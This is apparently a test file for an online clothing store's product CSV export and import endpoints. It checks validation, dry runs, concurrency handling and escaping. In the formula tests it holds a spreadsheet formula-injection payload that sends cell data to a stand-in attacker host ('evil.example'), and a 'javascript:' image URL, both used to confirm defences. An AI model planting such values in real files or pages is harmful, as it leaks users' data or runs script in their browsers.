import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { and, count, eq, isNull, like } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PRODUCT_CSV_COLUMNS, type ImportReport, type ProductDetail, type Session } from '@kuber/shared';
import { products, productVariants } from '#api/db/schema.js';
import { seedDemo } from '#api/db/seed.js';
import { LocalChangeBus } from '#api/lib/change-bus.js';
import { bearer, loginAdmin } from '#api/test/accounts.js';
import { createTestApp, type TestApp } from '#api/test/test-app.js';
import { ProductsAdminService } from './products-admin.service.js';
import { ProductsCsvService } from './products-csv.service.js';

let t: TestApp;
let admin: Session;

beforeAll(async () => {
  t = await createTestApp({ cacheSeconds: 60 });
  await seedDemo(t.database.db, { images: false });
  admin = await loginAdmin(t.app, t.database.db);
});
afterAll(async () => {
  await t?.close();
});

type Row = Partial<Record<(typeof PRODUCT_CSV_COLUMNS)[number], string | number>>;

async function exportCsv() {
  const res = await t.app.inject({ method: 'GET', url: '/api/admin/products/export', headers: bearer(admin) });
  return { status: res.statusCode, headers: res.headers, text: res.body };
}

/** A CSV of these columns and rows. */
const csvOf = (columns: readonly string[], rows: Row[]) =>
  stringify([columns, ...rows.map((r) => columns.map((c) => String(r[c as keyof Row] ?? '')))]);

function importCsv(text: string | Buffer, query = '', headers: Record<string, string> = {}) {
  const form = new FormData();
  form.append(
    'file',
    new Blob([typeof text === 'string' ? text : new Uint8Array(text)], { type: 'text/csv' }),
    'products.csv',
  );
  return t.app.inject({
    method: 'POST',
    url: `/api/admin/products/import${query}`,
    headers: { ...bearer(admin), ...headers },
    payload: form,
  });
}

async function imported(text: string | Buffer, query = '') {
  const res = await importCsv(text, query);
  expect(res.statusCode, res.body).toBe(200);
  return res.json().data as ImportReport;
}

const records = (text: string) => parse(text, { bom: true, columns: true }) as Record<string, string>[];
const product = async (slug: string) =>
  (await t.app.inject({ method: 'GET', url: `/api/products/slug/${slug}` })).json().data as ProductDetail;

describe('CSV export', () => {
  it('writes one row per size × colour with the product’s fields, and imports back unchanged', async () => {
    const { status, headers, text } = await exportCsv();
    expect(status).toBe(200);
    expect(headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(headers['content-disposition']).toMatch(/^attachment; filename="products-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(text.charCodeAt(0)).toBe(0xfeff);
    expect(text.slice(1, text.indexOf('\n'))).toBe(PRODUCT_CSV_COLUMNS.join(','));
    const rows = records(text);
    const [variants] = await t.database.db
      .select({ n: count() })
      .from(productVariants)
      .innerJoin(products, eq(products.id, productVariants.productId))
      .where(isNull(products.archivedAt));
    expect(rows).toHaveLength(variants!.n);
    const tee = rows.filter((r) => r.slug === 'classic-cotton-t-shirt');
    expect(tee.map((r) => `${r.size}/${r.color}`)).toEqual(
      ['S', 'M', 'L', 'XL'].flatMap((s) => ['White', 'Black', 'Navy'].map((c) => `${s}/${c}`)),
    );
    expect(tee[0]).toMatchObject({
      name: 'Classic Cotton T-Shirt',
      category: 'mens-fashion',
      price: '499',
      originalPrice: '799',
      images:
        '/uploads/demo/classic-cotton-t-shirt-white.webp|/uploads/demo/classic-cotton-t-shirt-black.webp|/uploads/demo/classic-cotton-t-shirt-navy.webp',
      active: 'true',
      featured: 'true',
    });
    expect(tee[0]!.imageColors!.split('|')).toContain('/uploads/demo/classic-cotton-t-shirt-navy.webp=Navy');
    const page = await product('classic-cotton-t-shirt');
    expect(tee.map((r) => Number(r.stockQuantity))).toEqual(page.variants.map((v) => v.stockQuantity));

    const again = await imported(text);
    const slugs = new Set(rows.map((r) => r.slug));
    expect(again).toMatchObject({
      dryRun: false,
      rows: rows.length,
      created: 0,
      updated: 0,
      refused: 0,
      unchanged: slugs.size,
      refusedRows: 0,
    });
    expect(again.products.find((p) => p.slug === 'classic-cotton-t-shirt')).toMatchObject({
      action: 'unchanged',
      rows: tee.map((_, i) => rows.indexOf(tee[i]!) + 2),
    });
  });

  it('is for admins only', async () => {
    expect((await t.app.inject({ method: 'GET', url: '/api/admin/products/export' })).statusCode).toBe(401);
  });
});

describe('CSV import', () => {
  it('previews without writing, then updates by slug and creates new products, the store showing them at once', async () => {
    const rows = records((await exportCsv()).text).filter((r) => r.slug === 'premium-sneakers');
    const before = await product('premium-sneakers');
    const edited: Row[] = rows.map((r) => ({
      ...r,
      price: '2799',
      stockQuantity: r.size === '9' && r.color === 'Black' ? '42' : r.stockQuantity,
    }));
    const fresh: Row[] = ['S', 'M', 'L'].map((size, i) => ({
      name: 'Khadi Nehru Jacket',
      category: 'Men',
      price: '1,899',
      size,
      color: 'Beige',
      stockQuantity: i + 1,
    }));
    const text = csvOf(PRODUCT_CSV_COLUMNS, [...edited, ...fresh]);

    const preview = await imported(text, '?dryRun=true');
    expect(preview).toMatchObject({
      dryRun: true,
      rows: edited.length + 3,
      created: 1,
      updated: 1,
      unchanged: 0,
      refused: 0,
    });
    const wasNine = before.variants.find((v) => v.size === '9' && v.color === 'Black')!.stockQuantity;
    expect(preview.products[0]).toMatchObject({
      slug: 'premium-sneakers',
      action: 'update',
      changes: ['price (₹2999 → ₹2799)', `stock of size 9, Black (${wasNine} → 42)`],
    });
    expect(preview.products[1]).toMatchObject({
      slug: 'khadi-nehru-jacket',
      name: 'Khadi Nehru Jacket',
      action: 'create',
      rows: [edited.length + 2, edited.length + 3, edited.length + 4],
    });
    expect((await product('premium-sneakers')).price).toBe(2999);
    expect(
      await t.app.inject({ method: 'GET', url: '/api/products/slug/khadi-nehru-jacket' }).then((r) => r.statusCode),
    ).toBe(404);

    const done = await imported(text);
    expect(done).toMatchObject({ dryRun: false, created: 1, updated: 1, refused: 0 });
    const sneakers = await product('premium-sneakers');
    expect(sneakers.price).toBe(2799);
    expect(sneakers.variants.find((v) => v.size === '9' && v.color === 'Black')!.stockQuantity).toBe(42);
    const jacket = await product('khadi-nehru-jacket');
    expect(jacket).toMatchObject({
      category: 'mens-fashion',
      price: 1899,
      sizes: ['S', 'M', 'L'],
      colors: ['Beige'],
      stockQuantity: 6,
      active: true,
      featured: false,
    });
    const found = (await t.app.inject({ method: 'GET', url: '/api/products/search?q=khadi%20nehru' })).json().data
      .data as { slug: string }[];
    expect(found.map((p) => p.slug)).toEqual(['khadi-nehru-jacket']);
  });

  it('refuses a product whole when one of its rows is wrong, says which row and why, and imports the rest', async () => {
    const [bagBefore] = await t.database.db.select().from(products).where(eq(products.slug, 'leather-crossbody-bag'));
    const text = csvOf(PRODUCT_CSV_COLUMNS, [
      /* 2 */ { name: 'Good Kurti', category: 'womens-fashion', price: 699, size: 'S', color: 'Red', stockQuantity: 4 },
      /* 3 */ { name: 'Good Kurti', size: 'M', color: 'Red', stockQuantity: 5 },
      /* 4 */ { name: 'Broken Stock Tee', category: 'mens-fashion', price: 499, size: 'S', stockQuantity: 3 },
      /* 5 */ { name: 'Broken Stock Tee', size: 'M', stockQuantity: -2 },
      /* 6 */ { name: 'Unknown Shelf Cap', category: 'gadgets', price: 299, stockQuantity: 3 },
      /* 7 */ { name: 'Two Price Scarf', category: 'accessories', price: 499, color: 'Red', stockQuantity: 1 },
      /* 8 */ { name: 'Two Price Scarf', price: 599, color: 'Blue', stockQuantity: 1 },
      /* 9 */ {
        name: 'Gappy Shirt',
        category: 'mens-fashion',
        price: 999,
        size: 'M',
        color: 'White',
        stockQuantity: 1,
      },
      /* 10 */ { name: 'Gappy Shirt', size: 'M', color: 'Blue', stockQuantity: 1 },
      /* 11 */ { name: 'Gappy Shirt', size: 'L', color: 'White', stockQuantity: 1 },
      /* 12 */ { stockQuantity: 9 },
      /* 13 */ { slug: 'leather-crossbody-bag', price: 'about 2000', color: 'Black', stockQuantity: 1 },
      /* 14 */ { slug: 'leather-crossbody-bag', color: 'Brown', stockQuantity: 1 },
      /* 15 */ {
        name: 'Cheap MRP Saree',
        category: 'womens-fashion',
        price: 1999,
        originalPrice: 999,
        stockQuantity: 2,
      },
      /* 16 */ { name: 'Half Stock Watch', category: 'accessories', price: 2999, stockQuantity: 'some' },
    ]);
    const report = await imported(text);
    const by = (slug: string) => report.products.find((p) => p.slug === slug)!;
    expect(report).toMatchObject({ rows: 15, created: 1, updated: 0, refused: 8, refusedRows: 13 });
    expect(by('good-kurti')).toMatchObject({ action: 'create', rows: [2, 3], errors: [] });
    expect(by('broken-stock-tee')).toMatchObject({
      action: 'refused',
      rows: [4, 5],
      errors: [{ row: 5, message: 'Stock cannot be below zero' }],
    });
    expect(by('unknown-shelf-cap').errors).toEqual([
      { row: 6, message: expect.stringMatching(/^Unknown category 'gadgets': use one of mens-fashion, /) },
    ]);
    expect(by('two-price-scarf').errors).toEqual([
      { row: 8, message: "price differs from row 7: give a product's price on one of its rows, or the same on each" },
    ]);
    expect(by('gappy-shirt').errors).toEqual([{ row: null, message: 'Give the stock of size L, Blue' }]);
    expect(report.products.find((p) => p.rows[0] === 12)).toMatchObject({
      slug: '',
      action: 'refused',
      errors: [{ row: 12, message: 'Give the slug or the name of the product the row is for' }],
    });
    expect(by('leather-crossbody-bag').errors).toEqual([
      { row: 13, message: "price must be an amount in rupees, like 1299 or 1299.50 (not 'about 2000')" },
    ]);
    expect(by('cheap-mrp-saree').errors).toEqual([{ row: 15, message: 'The MRP cannot be below the price' }]);
    expect(by('half-stock-watch').errors).toEqual([
      { row: 16, message: 'Give the stock of the product as a whole number in stockQuantity' },
    ]);

    const written = await t.database.db.select({ slug: products.slug }).from(products);
    const slugs = written.map((r) => r.slug);
    expect(slugs).toContain('good-kurti');
    for (const refused of [
      'broken-stock-tee',
      'unknown-shelf-cap',
      'two-price-scarf',
      'gappy-shirt',
      'cheap-mrp-saree',
      'half-stock-watch',
    ])
      expect(slugs).not.toContain(refused);
    const [bagAfter] = await t.database.db.select().from(products).where(eq(products.slug, 'leather-crossbody-bag'));
    expect(bagAfter).toEqual(bagBefore);
  });

  it('keeps what a file leaves out: a stock count of slug, size, colour and stock changes only the stock', async () => {
    const before = await product('kids-rainbow-hoodie');
    const rows = before.variants.map((v, i) => ({
      slug: 'kids-rainbow-hoodie',
      size: v.size,
      color: v.color,
      stockQuantity: i,
    }));
    const report = await imported(csvOf(['slug', 'size', 'color', 'stockQuantity'], rows));
    expect(report.products).toEqual([expect.objectContaining({ slug: 'kids-rainbow-hoodie', action: 'update' })]);
    expect(report.products[0]!.changes.every((c) => c.startsWith('stock of '))).toBe(true);
    const after = await product('kids-rainbow-hoodie');
    expect(after.variants.map((v) => v.stockQuantity)).toEqual(rows.map((r) => r.stockQuantity));
    expect({ ...after, variants: [], stockQuantity: 0, inStock: true, colorImages: {} }).toEqual({
      ...before,
      variants: [],
      stockQuantity: 0,
      inStock: true,
      colorImages: {},
    });
  });

  it('carries whether a product may be returned and its warranty, both ways', async () => {
    const rows: Row[] = ['M', 'L'].map((size) => ({
      name: 'Cotton Vest Pack',
      category: 'mens-fashion',
      price: '349',
      size,
      stockQuantity: 5,
      returnable: 'no',
      warrantyMonths: '6',
    }));
    expect(await imported(csvOf(PRODUCT_CSV_COLUMNS, rows))).toMatchObject({ created: 1, refused: 0 });
    expect(await product('cotton-vest-pack')).toMatchObject({ returnable: false, warrantyMonths: 6 });
    const exported = records((await exportCsv()).text).filter((r) => r.slug === 'cotton-vest-pack');
    expect(exported.map((r) => [r.returnable, r.warrantyMonths])).toEqual([
      ['false', '6'],
      ['false', '6'],
    ]);
    const returnableAgain = rows.map((r) => ({ ...r, returnable: 'yes', warrantyMonths: '' }));
    const changed = await imported(csvOf(PRODUCT_CSV_COLUMNS, returnableAgain));
    expect(changed).toMatchObject({ updated: 1 });
    expect(changed.products[0]!.changes).toEqual(['returnable (no → yes)', 'warranty (6 months → none)']);
    expect(await product('cotton-vest-pack')).toMatchObject({ returnable: true, warrantyMonths: null });
    const wrong = await imported(csvOf(PRODUCT_CSV_COLUMNS, [{ ...rows[0]!, warrantyMonths: 'a year' }]));
    expect(wrong.refused).toBe(1);
    expect(JSON.stringify(wrong.products)).toContain('warrantyMonths must be a whole number of months');
  });

  it('reads a file saved with semicolons, as spreadsheets in some languages write it', async () => {
    const text =
      'name;category;price;description;stockQuantity\r\nSemicolon Stole;accessories;1299;"Soft, light, warm";3\r\n';
    const report = await imported(text);
    expect(report).toMatchObject({ created: 1, refused: 0 });
    expect(await product('semicolon-stole')).toMatchObject({ price: 1299, description: 'Soft, light, warm' });
  });

  it('answers as it goes when asked: a progress line after each batch of products, then the report', async () => {
    const rows = Array.from({ length: 5 }, (_, i) => ({
      name: `Streamed Sock ${i}`,
      category: 'accessories',
      price: 199,
      stockQuantity: 10,
    }));
    const res = await importCsv(csvOf(PRODUCT_CSV_COLUMNS, rows), '', { accept: 'application/x-ndjson' });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/x-ndjson; charset=utf-8');
    const lines = res.body
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(lines.slice(0, -1)).toEqual([{ progress: { done: 5, total: 5 } }]);
    expect(lines.at(-1)).toMatchObject({ success: true, data: { created: 5, dryRun: false } });
  });

  it.each<[string, string | Buffer, number, string]>([
    [
      'an unknown column',
      'slug,pric,stockQuantity\na,1,1\n',
      400,
      "Unknown column 'pric'. The columns are: slug, name, category, price, originalPrice, description, tags, nameHi, descriptionHi, images, imageColors, active, featured, inStock, returnable, warrantyMonths, fabric, fit, care, countryOfOrigin, manufacturer, size, color, stockQuantity.",
    ],
    [
      'no stock column',
      'slug,price\na,1\n',
      400,
      'The file needs a stockQuantity column, and a slug or a name column to say which product each row is for.',
    ],
    ['a header alone', 'slug,stockQuantity\n', 400, 'The file has a header but no rows.'],
    ['an empty file', '', 400, 'The file is empty: it needs a header row and a row for each size and colour.'],
    ['a broken quote', 'slug,stockQuantity\n"a,1\n', 400, 'The file is not a valid CSV'],
    [
      'text that is not UTF-8',
      Buffer.from('name,stockQuantity\nCaf\xe9 Kurta,1\n', 'latin1'),
      400,
      'The file is not UTF-8 text',
    ],
  ])('refuses %s as a whole', async (_what, text, status, message) => {
    const res = await importCsv(text);
    expect(res.statusCode).toBe(status);
    expect(res.json().message).toContain(message);
  });

  it('refuses a form without a file, and a body that is no form', async () => {
    const empty = await t.app.inject({
      method: 'POST',
      url: '/api/admin/products/import',
      headers: bearer(admin),
      payload: new FormData(),
    });
    expect(empty.statusCode).toBe(400);
    expect(empty.json().message).toBe('Choose a CSV file to import (the form has no field named file).');
    const json = await t.app.inject({
      method: 'POST',
      url: '/api/admin/products/import',
      headers: bearer(admin),
      payload: { rows: [] },
    });
    expect(json.statusCode).toBe(400);
    expect(json.json().message).toBe('Send the CSV as multipart/form-data, in a field named file.');
    const bad = await importCsv('slug,stockQuantity\na,1\n', '?dryRun=maybe');
    expect(bad.statusCode).toBe(400);
    expect(bad.json().message).toBe('dryRun must be true or false');
  });
});

describe('control characters in a cell', () => {
  const countTees = async () =>
    (await t.database.db.select({ n: count() }).from(products).where(like(products.slug, 'nul-tee-%')))[0]!.n;

  it('refuse the whole file in the dry run and the import alike, naming the row and column, with nothing written', async () => {
    const rows: Row[] = Array.from({ length: 59 }, (_, i) => ({
      name: `Nul Tee ${i}`,
      category: 'mens-fashion',
      price: 399,
      description: 'Cotton',
      stockQuantity: 5,
    }));
    rows.push({
      name: 'Nul Tee 59',
      category: 'mens-fashion',
      price: 399,
      description: 'Cotton\u0000 with a NUL',
      stockQuantity: 5,
    });
    const text = csvOf(PRODUCT_CSV_COLUMNS, rows);
    const message =
      'Row 61, column description holds a control character (U+0000), which no product text may hold. Remove it and import the file again: nothing was imported.';
    for (const query of ['?dryRun=true', '']) {
      const res = await importCsv(text, query);
      expect(res.statusCode, res.body).toBe(400);
      expect(res.json()).toMatchObject({
        code: 'INVALID',
        message,
        errors: [
          {
            path: 'rows.61.description',
            message: 'Row 61, column description holds a control character (U+0000), which no product text may hold',
          },
        ],
      });
    }
    const streamed = await importCsv(text, '', { accept: 'application/x-ndjson' });
    expect(streamed.statusCode).toBe(400);
    expect(await countTees()).toBe(0);
  });

  it('refuse line breaks and tabs outside the descriptions, and take them inside', async () => {
    const names = await importCsv(
      csvOf(
        ['name', 'category', 'price', 'stockQuantity'],
        [
          { name: 'Nul Tee Broken\nQuote', category: 'mens-fashion', price: 399, stockQuantity: 1 },
          { name: 'Nul Tee\u0007Bell', category: 'mens-fashion', price: 1, stockQuantity: 1 },
        ],
      ),
    );
    expect(names.statusCode).toBe(400);
    expect(names.json().message).toBe(
      'Row 2, column name holds a control character (U+000A), which no product text may hold (and 1 other cell). Remove them and import the file again: nothing was imported.',
    );
    expect(names.json().errors.map((e: { path: string }) => e.path)).toEqual(['rows.2.name', 'rows.3.name']);
    const described = await imported(
      csvOf(
        ['name', 'category', 'price', 'description', 'stockQuantity'],
        [
          {
            name: 'Nul Tee Lines',
            category: 'mens-fashion',
            price: 399,
            description: 'Soft cotton.\nMachine wash:\tcold.',
            stockQuantity: 1,
          },
        ],
      ),
    );
    expect(described).toMatchObject({ created: 1, refused: 0 });
    expect((await product('nul-tee-lines')).description).toBe('Soft cotton.\nMachine wash:\tcold.');
  });
});

describe('formulas in text cells', () => {
  it('are written with a leading apostrophe, and imported back as they were', async () => {
    const texts = {
      name: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
      description: '- soft cotton\n- hand woven',
      tags: '+festive @home',
      nameHi: "'=quoted already",
    };
    const made = await t.app.inject({
      method: 'POST',
      url: '/api/admin/products',
      headers: bearer(admin),
      payload: {
        ...texts,
        slug: 'formula-kurta',
        categorySlug: 'mens-fashion',
        price: 999,
        sizes: ['-S', 'M'],
        variants: [
          { size: '-S', stockQuantity: 2 },
          { size: 'M', stockQuantity: 3 },
        ],
      },
    });
    expect(made.statusCode, made.body).toBe(201);
    const { text } = await exportCsv();
    const rows = records(text).filter((r) => r.slug === 'formula-kurta');
    expect(rows[0]).toMatchObject({
      name: `'${texts.name}`,
      description: `'${texts.description}`,
      tags: `'${texts.tags}`,
      nameHi: `''=quoted already`,
      size: "'-S",
      price: '999',
      stockQuantity: '2',
    });
    expect(rows[1]).toMatchObject({ size: 'M', stockQuantity: '3' });

    const again = await imported(csvOf(PRODUCT_CSV_COLUMNS, rows));
    expect(again.products).toEqual([expect.objectContaining({ slug: 'formula-kurta', action: 'unchanged' })]);
    const kept = await t.app.inject({
      method: 'GET',
      url: `/api/admin/products/${made.json().data.id}`,
      headers: bearer(admin),
    });
    expect(kept.json().data).toMatchObject({ ...texts, sizes: ['-S', 'M'], version: 1 });
  });
});

describe('picture addresses in a file', () => {
  it('takes the store’s own uploads and https addresses, and refuses others at their row', async () => {
    const row = (name: string, images: string) => ({
      name,
      category: 'accessories',
      price: 299,
      images,
      stockQuantity: 1,
    });
    const report = await imported(
      csvOf(PRODUCT_CSV_COLUMNS, [
        row(
          'Own Picture Stole',
          '/uploads/accessories/stole-0123456789abcdef0123.webp|https://cdn.example.com/stole.webp',
        ),
        row('Script Picture Stole', 'javascript:alert(6)'),
        row('Plain Http Stole', 'http://cdn.example.com/stole.webp'),
      ]),
    );
    const by = (slug: string) => report.products.find((p) => p.slug === slug)!;
    expect(by('own-picture-stole').action).toBe('create');
    expect(by('script-picture-stole').errors).toEqual([
      { row: 3, message: 'Use a picture uploaded to the store, or an https:// address' },
    ]);
    expect(by('plain-http-stole').errors).toEqual([
      { row: 4, message: 'Use a picture uploaded to the store, or an https:// address' },
    ]);
  });
});

describe('a product changed between the plan and the writes', () => {
  it('is refused when another admin saved it meanwhile, rather than written over', async () => {
    const csv = new ProductsCsvService(
      t.database.db,
      new ProductsAdminService(t.database.db, {
        changes: new LocalChangeBus(),
        pictures: { deleteImage: async () => false },
      }),
    );
    const rows = records((await exportCsv()).text).filter((r) =>
      ['linen-blend-casual-shirt', 'classic-cotton-t-shirt'].includes(r.slug!),
    );
    const plan = await csv.plan(
      Buffer.from(
        csvOf(
          PRODUCT_CSV_COLUMNS,
          rows.map((r) => ({ ...r, tags: 'imported' })),
        ),
      ),
    );
    expect(plan.planned.map((p) => p.item.action)).toEqual(['update', 'update']);
    const [shirt] = await t.database.db.select().from(products).where(eq(products.slug, 'linen-blend-casual-shirt'));
    const saved = await t.app.inject({
      method: 'PUT',
      url: `/api/admin/products/${shirt!.id}/status`,
      headers: bearer(admin),
      payload: { featured: !shirt!.featured },
    });
    expect(saved.json().data.version).toBe(shirt!.version + 1);
    const [teeBefore] = await t.database.db.select().from(products).where(eq(products.slug, 'classic-cotton-t-shirt'));
    const report = await csv.apply(plan);
    const by = (slug: string) => report.products.find((p) => p.slug === slug)!;
    expect(by('classic-cotton-t-shirt')).toMatchObject({ action: 'update', errors: [] });
    expect(by('linen-blend-casual-shirt')).toMatchObject({
      action: 'refused',
      errors: [{ row: null, message: 'This product was changed meanwhile (featured). Reload to see the changes.' }],
    });
    const [tee] = await t.database.db.select().from(products).where(eq(products.slug, 'classic-cotton-t-shirt'));
    expect(tee).toMatchObject({ tags: 'imported', version: teeBefore!.version + 1 });
    const [shirtAfter] = await t.database.db
      .select()
      .from(products)
      .where(eq(products.slug, 'linen-blend-casual-shirt'));
    expect(shirtAfter).toMatchObject({ tags: shirt!.tags, version: shirt!.version + 1 });
  });

  it('is refused alone, with the reason, and the rest of its batch is written', async () => {
    const csv = new ProductsCsvService(
      t.database.db,
      new ProductsAdminService(t.database.db, {
        changes: new LocalChangeBus(),
        pictures: { deleteImage: async () => false },
      }),
    );
    const rows = records((await exportCsv()).text).filter((r) => ['denim-jacket', 'silk-blouse'].includes(r.slug!));
    const plan = await csv.plan(
      Buffer.from(
        csvOf(
          PRODUCT_CSV_COLUMNS,
          rows.map((r) => ({ ...r, price: '1111' })),
        ),
      ),
    );
    expect(plan.planned.map((p) => p.item.action)).toEqual(['update', 'update']);
    // Archived by another admin meanwhile.
    await t.database.db
      .update(products)
      .set({ archivedAt: new Date(), active: false })
      .where(eq(products.slug, 'denim-jacket'));
    const report = await csv.apply(plan);
    expect(report.products.map((p) => [p.slug, p.action, p.errors])).toEqual([
      ['denim-jacket', 'refused', [{ row: null, message: 'Product not found' }]],
      ['silk-blouse', 'update', []],
    ]);
    expect((await product('silk-blouse')).price).toBe(1111);
    const [jacket] = await t.database.db.select().from(products).where(eq(products.slug, 'denim-jacket'));
    expect(jacket!.pricePaise).toBe(249_900);
  });
});

describe('a large CSV', () => {
  it('imports 10,000 rows in under a minute', async () => {
    const sizes = ['S', 'M', 'L', 'XL'];
    const colours = ['Black', 'Navy'];
    const rows: Row[] = [];
    for (let p = 0; p < 1250; p++) {
      for (const size of sizes)
        for (const color of colours)
          rows.push({
            name: `Bulk Tee ${p}`,
            category: 'mens-fashion',
            price: 300 + (p % 50),
            description: 'A plain cotton tee.',
            size,
            color,
            stockQuantity: (p + rows.length) % 20,
          });
    }
    expect(rows).toHaveLength(10_000);
    const text = csvOf(PRODUCT_CSV_COLUMNS, rows);
    const started = performance.now();
    const res = await importCsv(text, '', { accept: 'application/x-ndjson' });
    const seconds = (performance.now() - started) / 1000;
    const lines = res.body
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    const progress = lines.slice(0, -1).map((l: { progress: { done: number; total: number } }) => l.progress);
    expect(progress.length).toBeGreaterThanOrEqual(10);
    expect(progress.length).toBeLessThanOrEqual(25);
    expect(progress.every((p, i) => p.total === 1250 && p.done > (progress[i - 1]?.done ?? 0))).toBe(true);
    expect(progress.at(-1)).toEqual({ done: 1250, total: 1250 });
    const report = lines.at(-1).data as ImportReport;
    expect(report).toMatchObject({ rows: 10_000, created: 1250, refused: 0 });
    const [made] = await t.database.db
      .select({ n: count() })
      .from(productVariants)
      .innerJoin(products, eq(products.id, productVariants.productId))
      .where(and(like(products.slug, 'bulk-tee-%')));
    expect(made!.n).toBe(10_000);
    const againStarted = performance.now();
    expect(await imported(text)).toMatchObject({ unchanged: 1250 });
    const againSeconds = (performance.now() - againStarted) / 1000;
    console.log(
      `CSV import of 10,000 rows (1,250 products): ${seconds.toFixed(1)} s; the same file again (all unchanged): ${againSeconds.toFixed(1)} s (${t.database.kind})`,
    );
    expect(seconds).toBeLessThan(60);
  }, 180_000);
});
